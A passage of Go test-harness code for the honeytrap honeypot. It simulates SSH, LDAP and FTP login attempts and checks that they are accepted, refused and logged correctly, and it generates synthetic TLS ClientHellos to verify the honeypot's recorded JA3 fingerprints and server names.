		a := &sc.Actors[ai]
		for _, op := range a.Ops {
			var st c12Step
			json.Unmarshal(op.Exp, &st)
			if st.Kind != "sshlogin" {
				continue
			}
			src := mustTCPAddr(a.Src)
			src.Port = st.MsgID
			out := outs[src.String()]
			if out == nil {
				continue
			}
			evs := evBySrc[src.String()]
			user := st.User
			if !out.Done {
				res.Violate("login-never-finished", "ssh", fmt.Sprintf("ssh login of %q from %s did not finish", user, src))
				return
			}
			if len(out.Attempts) == 0 {
				res.Violate("infra", "ssh-client", "ssh client made no attempt: "+out.Err)
				return
			}
			// expected: attempts continue until the first accepted password
			wantOK := false
			wantN := 0
			for _, p := range st.Passwords {
				wantN++
				if c12InSet(creds, c12Attempt{user, p}, true) {
					wantOK = true
					break
				}
			}
			if out.OK != wantOK {
				k := "login-refused-for-configured-credentials"
				if out.OK {
					k = "login-accepted-for-unconfigured-credentials"
				}
				res.Violate(k, "ssh", fmt.Sprintf("user %q passwords %q against credential set %q: client authenticated=%v, expected %v (%s)", user, out.Attempts, creds, out.OK, wantOK, out.Err))
				return
			}
			if len(out.Attempts) != wantN {
				res.Violate("attempt-count", "ssh", fmt.Sprintf("user %q: script %q against %q should take %d attempts, the client made %d (authenticated=%v)", user, st.Passwords, creds, wantN, len(out.Attempts), out.OK))
				return
			}
			if len(evs) != len(out.Attempts) {
				res.Violate("auth-event-count", "ssh", fmt.Sprintf("user %q: %d password attempts %q but %d password-authentication events", user, len(out.Attempts), out.Attempts, len(evs)))
				return
			}
			for i, e := range evs {
				if fmt.Sprint(e["ssh.password"]) != out.Attempts[i] || fmt.Sprint(e["ssh.username"]) != user {
					res.Violate("auth-event-wrong-credentials", "ssh", fmt.Sprintf("attempt %d presented %q/%q, event records %v/%v", i, user, out.Attempts[i], e["ssh.username"], e["ssh.password"]))
					return
				}
			}
			if st.PubKey {
				n := 0
				for _, e := range obs.Events {
					if e.M["type"] == "publickey-authentication" && eventSrc(e.M) == src.String() && fmt.Sprint(e.M["ssh.username"]) == user {
						n++
					}
				}
				if n == 0 {
					res.Violate("auth-event-count", "ssh", fmt.Sprintf("user %q offered a public key first: no publickey-authentication event attributed to %s", user, src))
					return
				}
				res.probe("ssh-publickey-offers", 1)
			}
			res.probe("ssh-logins", 1)
			res.probe("ssh-attempts", len(out.Attempts))
		}
	}
}

func equalPrefix(full, prefix []string) bool {
	if len(prefix) > len(full) {
		return false
	}
	for i := range prefix {
		if full[i] != prefix[i] {
			return false
		}
	}
	return true
}

func c12CheckLDAP(sc *Scenario, obs *Obs, creds []string, res *Result) {
	for ai := range sc.Actors {
		a := &sc.Actors[ai]
		results := ldapResults(obs.Conns[ai].Recv)
		_, evs := connEvents(obs, a.Src, nil)
		logged := false
		bindNo := 0
		for _, op := range a.Ops {
			var st c12Step
			if len(op.Exp) == 0 {
				continue
			}
			json.Unmarshal(op.Exp, &st)
			code, got := results[st.MsgID]
			switch st.Kind {
			case "gated":
				if !got {
					res.Violate("no-reply", "ldap", fmt.Sprintf("conn %d: no reply to %s (message %d)", ai, st.Op, st.MsgID))
					return
				}
				if !logged && code != 53 {
					res.Violate("gated-operation-allowed-without-login", "ldap", fmt.Sprintf("conn %d: %s (message %d) answered with result code %d before any successful bind on this connection; credential set %q", ai, st.Op, st.MsgID, code, creds))
					return
				}
				if logged && code != 53 {
					res.probe("ldap-gated-allowed-after-login", 1)
				}
				res.probe("ldap-gated-probes", 1)
			case "bind-refused-version":
				if got && code == 0 {
					res.Violate("login-accepted-for-unconfigured-credentials", "ldap", fmt.Sprintf("conn %d: a bind with an unsupported protocol version (message %d) was answered with success", ai, st.MsgID))
					return
				}
				res.probe("ldap-binds-refused-for-version", 1)
				// refused: the connection is exactly as logged in as it was
			case "bind":
				bindNo++
				if !got {
					res.Violate("no-reply", "ldap", fmt.Sprintf("conn %d: no reply to bind %q (message %d)", ai, st.User, st.MsgID))
					return
				}
				// the authentication event
				var ev map[string]interface{}
				for _, m := range evs {
					if fmt.Sprint(m["ldap.message-id"]) == fmt.Sprint(st.MsgID) && m["ldap.request-type"] == "bind" {
						ev = m
					}
				}
				if ev == nil {
					res.Violate("auth-event-missing", "ldap", fmt.Sprintf("conn %d: bind %q/%q (message %d) produced no bind event", ai, st.User, st.Pass, st.MsgID))
					return
				}
				if fmt.Sprint(ev["ldap.username"]) != st.User || fmt.Sprint(ev["ldap.password"]) != st.Pass {
					res.Violate("auth-event-wrong-credentials", "ldap", fmt.Sprintf("conn %d: bind presented %q/%q, event records %v/%v", ai, st.User, st.Pass, ev["ldap.username"], ev["ldap.password"]))
					return
				}
				if st.User == "" && st.Pass == "" {
					logged = false // anonymous bind: allowed, never logged in
					continue
				}
				want := c12InSet(creds, c12Attempt{st.User, st.Pass}, false)
				wantWild := c12InSet(creds, c12Attempt{st.User, st.Pass}, true)
				ok := code == 0
				if ok != want {
					kind := "login-refused-for-configured-credentials"
					if ok {
						kind = "login-accepted-for-unconfigured-credentials"
					} else if !want {
						kind = "x"
					}
					if !ok && wantWild && !want {
						kind = "wildcard-not-honoured"
					}
					res.Violate(kind, "ldap", fmt.Sprintf("conn %d: bind %q/%q against credential set %q answered with result code %d", ai, st.User, st.Pass, creds, code))
					return
				}
				if !ok && wantWild {
					res.Violate("wildcard-not-honoured", "ldap", fmt.Sprintf("conn %d: bind %q/%q refused (%d) although the credential set %q contains the wildcard entry", ai, st.User, st.Pass, code, creds))
					return
				}
				if ok {
					logged = true
				}
				res.probe("ldap-binds", 1)
			}
		}
	}
}

func ftpReplies(b []byte) []int {
	var codes []int
	for _, l := range strings.Split(string(b), "\r\n") {
		if len(l) >= 4 && l[3] == ' ' {
			var c int
			if _, err := fmt.Sscanf(l[:3], "%d", &c); err == nil {
				codes = append(codes, c)
			}
		}
	}
	return codes
}

func c12CheckFTP(sc *Scenario, obs *Obs, creds []string, res *Result) {
	for ai := range sc.Actors {
		a := &sc.Actors[ai]
		// replies per op: every command gets exactly one final reply line (lock-step, one command per step)
		chunks := obs.Conns[ai].Chunks
		replyAt := func(step int) []int {
			var codes []int
			for _, c := range chunks {
				if c.Step == step {
					codes = append(codes, ftpReplies(c.Data)...)
				}
			}
			return codes
		}
		_, evs := connEvents(obs, a.Src, nil)
		logged := false
		reqUser := ""
		for oi, op := range a.Ops {
			if op.K != "send" {
				continue
			}
			line := strings.TrimRight(string(op.Bytes()), "\r\n")
			codes := replyAt(obs.Conns[ai].OpStep[oi])
			if strings.HasPrefix(line, "USER ") {
				reqUser = strings.TrimPrefix(line, "USER ")
				continue
			}
			var st c12Step
			json.Unmarshal(op.Exp, &st)
			if len(codes) == 0 {
				if logged {
					// after login a transfer command may wait for a data connection or end the
					// dialogue (STOR without data connection); nothing more to judge on this connection
					break
				}
				res.Violate("no-reply", "ftp", fmt.Sprintf("conn %d: no reply to %q", ai, line))
				return
			}
			last := codes[len(codes)-1]
			switch st.Kind {
			case "gated":
				gatedCmd := !strings.HasPrefix(line, "SYST") || true
				_ = gatedCmd
				if !logged && last != 530 {
					res.Violate("gated-operation-allowed-without-login", "ftp", fmt.Sprintf("conn %d: %q answered %d before any successful login on this connection", ai, line, last))
					return
				}
				if logged && last != 530 {
					res.probe("ftp-gated-allowed-after-login", 1)
				}
				res.probe("ftp-gated-probes", 1)
			case "bind":
				if st.Pass == "" {
					// PASS without parameter: refused as a syntax matter (553), not an attempt
					continue
				}
				want := reqUser == st.User && c12InSet(creds, c12Attempt{reqUser, st.Pass}, true)
				if st.User == "" {
					want = c12InSet(creds, c12Attempt{reqUser, st.Pass}, true)
				}
				ok := last == 230
				if ok != want {
					kind := "login-refused-for-configured-credentials"
					if ok {
						kind = "login-accepted-for-unconfigured-credentials"
					}
					res.Violate(kind, "ftp", fmt.Sprintf("conn %d: USER %q PASS %q answered %d", ai, reqUser, st.Pass, last))
					return
				}
				// the attempt is on record: a command event with the PASS line
				found := 0
				for _, m := range evs {
					if m["ftp.command"] == line {
						found++
					}
				}
				if found == 0 {
					res.Violate("auth-event-missing", "ftp", fmt.Sprintf("conn %d: no event records %q", ai, line))
					return
				}
				if ok {
					logged = true
					reqUser = ""
				}
				res.probe("ftp-logins", 1)
			}
		}
	}
}
