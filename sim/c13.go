package htsim

import (
	"crypto/md5"
	stdtls "crypto/tls"
	"encoding/binary"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"strings"
	"testing"
	"time"
)

// C13 — the recorded JA3 fingerprint is the specification's JA3 of the ClientHello sent.
//
// A structural ClientHello generator (the JA3 string is computed from the generated structure, never
// by parsing the bytes) sends hellos to the real https service over the simulated transport under
// record-layer fragmentation x stream segmentation x client abort right after the hello.  Many hellos
// share one server (and three server names), so the per-name RSA key is generated a few times per boot.

func init() {
	engines["C13"] = &Engine{Gen: genC13, Run: runC13}
}

var greaseVals = []uint16{0x0a0a, 0x1a1a, 0x2a2a, 0x3a3a, 0x4a4a, 0x5a5a, 0x6a6a, 0x7a7a, 0x8a8a, 0x9a9a, 0xaaaa, 0xbaba, 0xcaca, 0xdada, 0xeaea, 0xfafa}

func isGrease(v uint16) bool {
	for _, g := range greaseVals {
		if g == v {
			return true
		}
	}
	return false
}

type helloSpec struct {
	Version    uint16   `json:"version"`
	Suites     []uint16 `json:"suites"`
	ExtTypes   []uint16 `json:"ext_types"` // in wire order
	Curves     []uint16 `json:"curves"`
	HasCurves  bool     `json:"has_curves"`
	Points     []uint8  `json:"points"`
	HasPoints  bool     `json:"has_points"`
	SNI        string   `json:"sni"`
	JA3        string   `json:"ja3"`
	Digest     string   `json:"digest"`
	GreaseTwin int      `json:"grease_twin,omitempty"` // index+1 of the hello this one differs from only in GREASE values
}

func u16(v uint16) []byte { return []byte{byte(v >> 8), byte(v)} }

func joinU16(xs []uint16) string {
	var s []string
	for _, x := range xs {
		s = append(s, fmt.Sprint(x))
	}
	return strings.Join(s, "-")
}

// buildHello renders the handshake message for a spec; extBodies gives the body per extension index.
func buildHello(r *Rng, h *helloSpec, greaseSeed uint16) []byte {
	var b []byte
	b = append(b, u16(h.Version)...)
	b = append(b, r.Bytes(32)...)
	sid := r.Bytes([]int{0, 0, 16, 32}[r.Intn(4)])
	b = append(b, byte(len(sid)))
	b = append(b, sid...)
	b = append(b, u16(uint16(2*len(h.Suites)))...)
	for _, s := range h.Suites {
		b = append(b, u16(s)...)
	}
	b = append(b, 1, 0) // null compression only
	var ext []byte
	for _, t := range h.ExtTypes {
		var body []byte
		switch t {
		case 0:
			name := []byte(h.SNI)
			body = append(u16(uint16(len(name)+3)), 0)
			body = append(body, u16(uint16(len(name)))...)
			body = append(body, name...)
		case 10:
			body = u16(uint16(2 * len(h.Curves)))
			for _, c := range h.Curves {
				body = append(body, u16(c)...)
			}
		case 11:
			body = append([]byte{byte(len(h.Points))}, h.Points...)
		case 13:
			body = []byte{0, 4, 4, 1, 5, 1}
		case 16:
			body = []byte{0, 3, 2, 'h', '2'}
		case 5:
			body = []byte{1, 0, 0, 0, 0}
		case 18, 23, 35, 13172:
			body = nil
		case 0xff01:
			body = []byte{0}
		case 21:
			body = make([]byte, r.Intn(20))
		default:
			if isGrease(t) {
				body = [][]byte{nil, {0}}[r.Intn(2)]
			} else {
				body = r.Bytes(r.Intn(6))
			}
		}
		ext = append(ext, u16(t)...)
		ext = append(ext, u16(uint16(len(body)))...)
		ext = append(ext, body...)
	}
	if len(h.ExtTypes) > 0 {
		b = append(b, u16(uint16(len(ext)))...)
		b = append(b, ext...)
	}
	msg := []byte{1, byte(len(b) >> 16), byte(len(b) >> 8), byte(len(b))}
	return append(msg, b...)
}

func (h *helloSpec) computeJA3() {
	var suites, exts, curves []uint16
	for _, s := range h.Suites {
		if !isGrease(s) {
			suites = append(suites, s)
		}
	}
	for _, e := range h.ExtTypes {
		if !isGrease(e) {
			exts = append(exts, e)
		}
	}
	for _, c := range h.Curves {
		if !isGrease(c) {
			curves = append(curves, c)
		}
	}
	var pts []string
	for _, p := range h.Points {
		pts = append(pts, fmt.Sprint(p))
	}
	h.JA3 = fmt.Sprintf("%d,%s,%s,%s,%s", h.Version, joinU16(suites), joinU16(exts), joinU16(curves), strings.Join(pts, "-"))
	sum := md5.Sum([]byte(h.JA3))
	h.Digest = hex.EncodeToString(sum[:])
}

var c13Suites = []uint16{0xc02f, 0xc02b, 0xc030, 0xc02c, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035, 0x000a, 0xcca8, 0xcca9, 0x1301, 0x1302, 0x1303, 0x00ff, 0x5600, 0xc009, 0xc00a, 0x0005, 0x0004, 0x1234, 0xfefe}
var c13Ext = []uint16{5, 13, 16, 18, 23, 35, 21, 0xff01, 13172, 0x1234, 0x002b, 0x002d, 0x0033, 0x7777, 65000}
var c13Curves = []uint16{29, 23, 24, 25, 256, 257, 0x6399}

// (host names are case-insensitive on the wire but the property wants the name as sent: one name has capitals)
var c13Names = []string{"", "a.example", "b.example.org", "Portal.C.Example.ORG"}

// nearGrease: code points that look like GREASE (0x?a?a) but are not - both bytes must be equal for GREASE - and
// arbitrary unassigned code points.  They are ordinary values for JA3.
func nearGrease(r *Rng) uint16 {
	for {
		var v uint16
		switch r.Intn(3) {
		case 0:
			v = uint16(r.Intn(16))<<12 | 0x0a00 | uint16(r.Intn(16))<<4 | 0x0a // 0xXaYa
		case 1:
			v = greaseVals[r.Intn(16)] ^ []uint16{0x0001, 0x0100, 0x0010, 0x1000, 0x0101}[r.Intn(5)]
		default:
			v = uint16(0x4000 + r.Intn(0xbf00)) // unassigned, away from the types the TLS stack interprets
		}
		isG := false
		for _, g := range greaseVals {
			if g == v {
				isG = true
			}
		}
		if !isG && v != 0xff01 && v != 13172 && v > 64 {
			return v
		}
	}
}

func genHello(r *Rng) helloSpec {
	h := helloSpec{Version: []uint16{0x0301, 0x0302, 0x0303, 0x0303, 0x0303}[r.Intn(5)]}
	if r.Chance(0.02) {
		h.Version = 0x0300 // known finding: reduced rate, never excluded
	}
	ns := r.Range(1, 40)
	if r.Chance(0.6) {
		ns = r.Range(1, 12)
	}
	for i := 0; i < ns; i++ {
		if r.Chance(0.12) {
			h.Suites = append(h.Suites, greaseVals[r.Intn(16)])
		} else if r.Chance(0.08) {
			h.Suites = append(h.Suites, nearGrease(r))
		} else {
			h.Suites = append(h.Suites, c13Suites[r.Intn(len(c13Suites))])
		}
	}
	h.SNI = c13Names[r.Intn(len(c13Names))]
	ne := r.Range(0, 20)
	if r.Chance(0.5) {
		ne = r.Range(0, 8)
	}
	var types []uint16
	if h.SNI != "" {
		types = append(types, 0)
	}
	if r.Chance(0.8) {
		h.HasCurves = true
		for k := r.Range(0, 5); k > 0; k-- {
			if r.Chance(0.2) {
				h.Curves = append(h.Curves, greaseVals[r.Intn(16)])
			} else if r.Chance(0.1) {
				h.Curves = append(h.Curves, nearGrease(r))
			} else {
				h.Curves = append(h.Curves, c13Curves[r.Intn(len(c13Curves))])
			}
		}
		types = append(types, 10)
	}
	if r.Chance(0.7) {
		h.HasPoints = true
		for k := r.Range(0, 3); k > 0; k-- {
			h.Points = append(h.Points, uint8(r.Intn(3)))
		}
		types = append(types, 11)
	}
	once := map[uint16]bool{0xff01: true, 13: true, 16: true, 18: true, 35: true, 5: true, 13172: true}
	used := map[uint16]bool{}
	for i := 0; i < ne; i++ {
		var t uint16
		if r.Chance(0.15) {
			t = greaseVals[r.Intn(16)]
		} else if r.Chance(0.08) {
			t = nearGrease(r)
		} else {
			t = c13Ext[r.Intn(len(c13Ext))]
		}
		if once[t] && used[t] {
			continue
		}
		used[t] = true
		types = append(types, t) // unknown and GREASE types may repeat
	}
	r.Shuffle(len(types), func(i, j int) { types[i], types[j] = types[j], types[i] })
	h.ExtTypes = types
	h.computeJA3()
	return h
}

// regrease replaces every GREASE value by another one (same positions).
func regrease(r *Rng, h helloSpec) helloSpec {
	n := h
	n.Suites = append([]uint16(nil), h.Suites...)
	n.ExtTypes = append([]uint16(nil), h.ExtTypes...)
	n.Curves = append([]uint16(nil), h.Curves...)
	sw := func(xs []uint16) {
		for i, x := range xs {
			if isGrease(x) {
				xs[i] = greaseVals[r.Intn(16)]
			}
		}
	}
	sw(n.Suites)
	sw(n.ExtTypes)
	sw(n.Curves)
	n.computeJA3()
	return n
}

func genC13(seed uint64, idx int, tier string) *Scenario {
	r := NewRng(seed, "c13")
	sc := &Scenario{Engine: "c13", Params: map[string]interface{}{}}
	sc.Config = baseConfig + "\n[service.s]\ntype=\"https\"\n\n[[port]]\nport=\"tcp/443\"\nservices=[\"s\"]\n"
	n := 60
	if tier == "thorough" {
		n = 200
	}
	var specs []helloSpec
	for i := 0; i < n; i++ {
		var h helloSpec
		if i > 0 && r.Chance(0.15) {
			j := r.Intn(len(specs))
			h = regrease(r, specs[j])
			h.GreaseTwin = j + 1
		} else {
			h = genHello(r)
		}
		msg := buildHello(r, &h, 0)
		// record layer: 1..n records (cuts inside the handshake header and the extensions block too)
		var stream []byte
		rv := uint16(0x0301)
		if r.Chance(0.3) {
			rv = h.Version
		}
		frag := [][]byte{msg}
		if r.Chance(0.4) {
			frag = nil
			rest := msg
			for len(rest) > 0 {
				k := r.Range(1, len(rest))
				if r.Chance(0.3) && len(rest) > 4 {
					k = r.Range(1, 4)
				}
				frag = append(frag, rest[:k])
				rest = rest[k:]
			}
		}
		for _, f := range frag {
			stream = append(stream, 22)
			stream = append(stream, u16(rv)...)
			stream = append(stream, u16(uint16(len(f)))...)
			stream = append(stream, f...)
		}
		a := Actor{Kind: "tcp", Name: fmt.Sprintf("h%d", i), Src: fmt.Sprintf("10.%d.%d.%d:%d", 1+i/60000, (i/250)%250, 1+i%250, 20000+i), Dst: sensorIP + ":443"}
		op := SendOp(stream, r.Cuts(len(stream)), "hello")
		ej, _ := json.Marshal(h)
		op.Exp = ej
		a.Ops = append(a.Ops, op)
		switch r.Intn(3) {
		case 0: // abort right after the hello
			a.Ops = append(a.Ops, Op{K: "close"})
		case 1:
			a.Ops = append(a.Ops, Op{K: "reset"})
		default: // read the server's flight, then leave
			a.Ops = append(a.Ops, Op{K: "nop"}, Op{K: "close"})
		}
		specs = append(specs, h)
		sc.Actors = append(sc.Actors, a)
	}
	// complete handshakes: a library TLS client (Go's crypto/tls, TLS 1.2, seeded suites/curves/SNI) finishes the
	// handshake and sends one request; what JA3 says about its hello is computed from the bytes it put on the wire
	nfull := r.Range(1, 3)
	for i := 0; i < nfull; i++ {
		spec := c13Full{SNI: c13Names[r.Intn(len(c13Names))], Path: "/full" + r.word(1, 6)}
		all := []uint16{0xc02f, 0xc030, 0xc013, 0xc014, 0x009c, 0x009d, 0x002f, 0x0035, 0xcca8}
		for _, k := range r.distinctSorted(r.Range(1, len(all)), len(all)) {
			spec.Suites = append(spec.Suites, all[k])
		}
		curves := []uint16{23, 24, 25, 29}
		for _, k := range r.distinctSorted(r.Range(1, len(curves)), len(curves)) {
			spec.Curves = append(spec.Curves, curves[k])
		}
		ej, _ := json.Marshal(spec)
		sc.Actors = append(sc.Actors, Actor{Kind: "tlsclient", Name: fmt.Sprintf("f%d", i), Src: fmt.Sprintf("10.200.%d.%d:%d", i, 1+r.Intn(200), 41000+i), Dst: sensorIP + ":443",
			Ops: []Op{{K: "tlsfull", Exp: ej}, {K: "sleep", Ms: 1000}}})
	}
	// a few connections at a time are interleaved; the tape picks among the first unfinished ones
	sc.Schedule = make([]int, 6*n)
	for i := range sc.Schedule {
		sc.Schedule[i] = r.Intn(3)
	}
	sc.Class = fmt.Sprintf("hellos=%d", n)
	sc.DrainMs = 31000
	return sc
}

// c13Full: a complete TLS session by a library client.
type c13Full struct {
	SNI    string   `json:"sni"`
	Path   string   `json:"path"`
	Suites []uint16 `json:"suites"`
	Curves []uint16 `json:"curves"`
}

type c13FullOutcome struct {
	Spec      c13Full
	Src       string
	Wire      []byte // everything the client wrote
	Handshake string // "" = completed
	Reply     []byte
}

// ja3FromWire computes the JA3 string and the SNI of the first ClientHello found in a client's byte stream,
// reading the record layer and the hello's fields as RFC 5246 lays them out.
func ja3FromWire(b []byte) (ja3, sni string, ok bool) {
	var hs []byte
	for len(b) >= 5 && b[0] == 22 {
		n := int(b[3])<<8 | int(b[4])
		if len(b) < 5+n {
			return "", "", false
		}
		hs = append(hs, b[5:5+n]...)
		b = b[5+n:]
		if len(hs) >= 4 && len(hs) >= 4+(int(hs[1])<<16|int(hs[2])<<8|int(hs[3])) {
			break
		}
	}
	if len(hs) < 4 || hs[0] != 1 {
		return "", "", false
	}
	d := hs[4 : 4+(int(hs[1])<<16|int(hs[2])<<8|int(hs[3]))]
	take := func(n int) []byte {
		if len(d) < n {
			ok = false
			d = nil
			return make([]byte, n)
		}
		x := d[:n]
		d = d[n:]
		return x
	}
	ok = true
	v := take(2)
	vers := uint16(v[0])<<8 | uint16(v[1])
	take(32)
	take(int(take(1)[0]))
	sl := take(2)
	suites := take(int(sl[0])<<8 | int(sl[1]))
	take(int(take(1)[0]))
	var cs, ex, cv, pf []uint16
	for i := 0; i+1 < len(suites); i += 2 {
		if x := uint16(suites[i])<<8 | uint16(suites[i+1]); !isGrease(x) {
			cs = append(cs, x)
		}
	}
	if len(d) >= 2 {
		el := take(2)
		ext := take(int(el[0])<<8 | int(el[1]))
		for len(ext) >= 4 {
			typ := uint16(ext[0])<<8 | uint16(ext[1])
			n := int(ext[2])<<8 | int(ext[3])
			if len(ext) < 4+n {
				return "", "", false
			}
			body := ext[4 : 4+n]
			ext = ext[4+n:]
			if isGrease(typ) {
				continue
			}
			ex = append(ex, typ)
			switch typ {
			case 0:
				if len(body) >= 5 {
					sni = string(body[5:])
				}
			case 10:
				for i := 2; i+1 < len(body); i += 2 {
					if x := uint16(body[i])<<8 | uint16(body[i+1]); !isGrease(x) {
						cv = append(cv, x)
					}
				}
			case 11:
				for i := 1; i < len(body); i++ {
					pf = append(pf, uint16(body[i]))
				}
			}
		}
	}
	return fmt.Sprintf("%d,%s,%s,%s,%s", vers, joinU16(cs), joinU16(ex), joinU16(cv), joinU16(pf)), sni, ok
}

func runC13(t *testing.T, sc *Scenario) Result {
	res := okResult()
	var fulls []*c13FullOutcome
	obs := RunScenario(t, sc, func(w *World) {
		w.Custom = func(w *World, ai int, op Op) {
			if op.K != "tlsfull" {
				return
			}
			out := &c13FullOutcome{Src: w.Sc.Actors[ai].Src, Handshake: "not finished"}
			json.Unmarshal(op.Exp, &out.Spec)
			fulls = append(fulls, out)
			a := &w.Sc.Actors[ai]
			go func() {
				ep, err := w.Net.Connect(mustTCPAddr(a.Src), mustTCPAddr(a.Dst))
				if err != nil {
					out.Handshake = err.Error()
					return
				}
				w.eps[ai] = ep
				ep.Record = true
				defer func() { out.Wire = append([]byte(nil), ep.Sent...); ep.Close() }()
				ep.SetDeadline(time.Now().Add(2 * time.Minute))
				cfg := &stdtls.Config{InsecureSkipVerify: true, ServerName: out.Spec.SNI, MinVersion: stdtls.VersionTLS12, MaxVersion: stdtls.VersionTLS12, CipherSuites: out.Spec.Suites}
				for _, c := range out.Spec.Curves {
					cfg.CurvePreferences = append(cfg.CurvePreferences, stdtls.CurveID(c))
				}
				tc := stdtls.Client(ep, cfg)
				if err := tc.Handshake(); err != nil {
					out.Handshake = err.Error()
					return
				}
				out.Handshake = ""
				host := out.Spec.SNI
				if host == "" {
					host = "192.0.2.1"
				}
				fmt.Fprintf(tc, "GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n", out.Spec.Path, host)
				buf := make([]byte, 4096)
				for {
					n, err := tc.Read(buf)
					out.Reply = append(out.Reply, buf[:n]...)
					if err != nil || len(out.Reply) > 1<<16 {
						return
					}
				}
			}()
		}
		w.runStandard()
	})
	res.Digest = traceDigest(obs, map[string]bool{"http.sessionid": true})
	res.Steps, res.SimMs = obs.Steps, obs.SimMs
	res.Nontriv = true
	if obs.BootErr != "" {
		res.Violate("infra", "boot", obs.BootErr)
		return res
	}
	for _, a := range sc.Actors {
		for i, o := range a.Ops {
			if o.K == "send" && i+1 < len(a.Ops) {
				switch a.Ops[i+1].K {
				case "close":
					res.fault("client-closes-right-after-hello", 1)
				case "reset":
					res.fault("client-resets-right-after-hello", 1)
				}
				if len(o.Cuts) > 0 {
					res.probe("hellos-cut-into-segments", 1)
				}
			}
		}
	}
	bySrc := map[string][]map[string]interface{}{}
	for _, e := range obs.Events {
		if e.M["category"] == "https" || e.M["https.ja3-digest"] != nil {
			bySrc[eventSrc(e.M)] = append(bySrc[eventSrc(e.M)], e.M)
		}
	}
	var specs []helloSpec
	for ai := range sc.Actors {
		a := &sc.Actors[ai]
		var h helloSpec
		found := false
		for _, o := range a.Ops {
			if o.K == "send" && len(o.Exp) > 0 {
				json.Unmarshal(o.Exp, &h)
				found = true
			}
		}
		specs = append(specs, h)
		if !found {
			continue
		}
		evs := bySrc[a.Src]
		if len(evs) == 0 {
			res.Violate("no-https-event", "https", fmt.Sprintf("hello %d (%s, sni %q): no event for the connection", ai, h.JA3, h.SNI))
			continue
		}
		for _, e := range evs {
			got := fmt.Sprint(e["https.ja3-digest"])
			if got != h.Digest {
				kind := "ja3-digest-wrong"
				site := "https"
				if got == "" {
					kind = "ja3-digest-missing"
					site = fmt.Sprintf("version=%#04x", h.Version)
				} else if hasGrease(h) {
					kind = "ja3-digest-wrong-with-grease"
				}
				res.Violate(kind, site, fmt.Sprintf("hello %d: recorded digest %q, the specification gives %s for JA3 string %q (version %#04x, %d suites, extensions %v, sni %q)", ai, got, h.Digest, h.JA3, h.Version, len(h.Suites), h.ExtTypes, h.SNI))
				continue
			}
			if sn := fmt.Sprint(e["https.server-name"]); sn != h.SNI {
				res.Violate("server-name-wrong", "https", fmt.Sprintf("hello %d: recorded server name %q, SNI sent %q", ai, sn, h.SNI))
				continue
			}
		}
		res.probe("hellos-verified", 1)
		if hasGrease(h) {
			res.probe("hellos-with-grease", 1)
		}
		if h.GreaseTwin > 0 && h.GreaseTwin-1 < len(specs) {
			res.probe("grease-twins", 1)
			if specs[h.GreaseTwin-1].Digest != h.Digest {
				res.Violate("infra", "generator", "grease twin has a different reference digest")
				return res
			}
		}
	}
	// complete sessions: the digest and the name are on record with the request the client made
	for _, f := range fulls {
		ja3, sni, ok := ja3FromWire(f.Wire)
		if !ok {
			res.Violate("infra", "generator", fmt.Sprintf("cannot read the library client's own hello (%d bytes on the wire, handshake: %s)", len(f.Wire), f.Handshake))
			return res
		}
		want := fmt.Sprintf("%x", md5.Sum([]byte(ja3)))
		if f.Handshake != "" {
			res.Violate("handshake-not-completed", "https-full", fmt.Sprintf("library client %s (sni %q, suites %v): %s", f.Src, f.Spec.SNI, f.Spec.Suites, f.Handshake))
			continue
		}
		evs := bySrc[f.Src]
		var reqs []map[string]interface{}
		for _, e := range evs {
			if got := fmt.Sprint(e["https.ja3-digest"]); got != want {
				res.Violate("ja3-digest-wrong", "https-full", fmt.Sprintf("session of %s: recorded digest %q, the specification gives %s for JA3 string %q", f.Src, got, want, ja3))
			}
			if sn := fmt.Sprint(e["https.server-name"]); sn != sni {
				res.Violate("server-name-wrong", "https-full", fmt.Sprintf("session of %s: recorded server name %q, SNI sent %q", f.Src, sn, sni))
			}
			if fmt.Sprint(e["http.url"]) == f.Spec.Path {
				reqs = append(reqs, e)
			}
		}
		if len(reqs) == 0 {
			res.Violate("request-of-completed-session-not-recorded", "https-full", fmt.Sprintf("client %s completed the handshake (JA3 %s, sni %q) and sent GET %s; %d events carry a digest for the connection, none of them is the request; the client received %d bytes in reply", f.Src, want, sni, f.Spec.Path, len(evs), len(f.Reply)))
			continue
		}
		res.probe("complete-sessions-verified", 1)
	}
	_ = binary.BigEndian
	return res
}

func hasGrease(h helloSpec) bool {
	for _, s := range h.Suites {
		if isGrease(s) {
			return true
		}
	}
	for _, s := range h.ExtTypes {
		if isGrease(s) {
			return true
		}
	}
	for _, s := range h.Curves {
		if isGrease(s) {
			return true
		}
	}
	return false
}
