package htsim

import (
	"bytes"
	"context"
	"net"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/pushers"
	"github.com/honeytrap/honeytrap/services"
)

// Stub services registered through the public service registry (C08, C19, C16):
//   type "stub"     no payload detector
//   type "stubdet"  detector = prefix predicate (toml key "prefix")
// Handle records the invocation and everything it reads until the stream ends.

type stubCall struct {
	Name        string
	Local       string
	Remote      string
	Data        []byte
	Done        bool // Handle returned
	Step        int
	ReadErr     string
	ClosedFirst bool // the stub ended the connection itself (close marker)
}

type stubHubT struct {
	mu    sync.Mutex
	calls []*stubCall
	// echo: when set, stubs write back what they read (C16)
	Echo bool
	// PreReadMs: stubs wait this long (fake clock) before their first read
	PreReadMs int
	// ReadSize is the buffer size stubs read with (services differ: byte-wise banner reads,
	// fixed-size headers, large buffers)
	ReadSize int
	// Bus is the event bus handle the server passes to services (C06 sends events through it)
	Bus pushers.Channel
}

var stubHub = &stubHubT{}

func (h *stubHubT) reset() {
	h.mu.Lock()
	h.calls = nil
	h.Echo = false
	h.PreReadMs = 0
	h.Bus = nil
	h.ReadSize = 0
	h.mu.Unlock()
}
func (h *stubHubT) snapshot() []stubCall {
	h.mu.Lock()
	defer h.mu.Unlock()
	out := make([]stubCall, len(h.calls))
	for i, c := range h.calls {
		out[i] = *c
		out[i].Data = append([]byte(nil), c.Data...)
	}
	return out
}

// stubCloseMarker in the data read makes an echo-mode stub return (the service closes first).
const stubCloseMarker = "[close-now]"

type stubService struct {
	Name   string `toml:"name"`
	Prefix string `toml:"prefix"`
	Reply  string `toml:"reply"`
}

func (s *stubService) SetChannel(c pushers.Channel) {
	stubHub.mu.Lock()
	stubHub.Bus = c
	stubHub.mu.Unlock()
}

func (s *stubService) Handle(ctx context.Context, conn net.Conn) error {
	c := &stubCall{Name: s.Name, Local: conn.LocalAddr().String(), Remote: conn.RemoteAddr().String()}
	stubHub.mu.Lock()
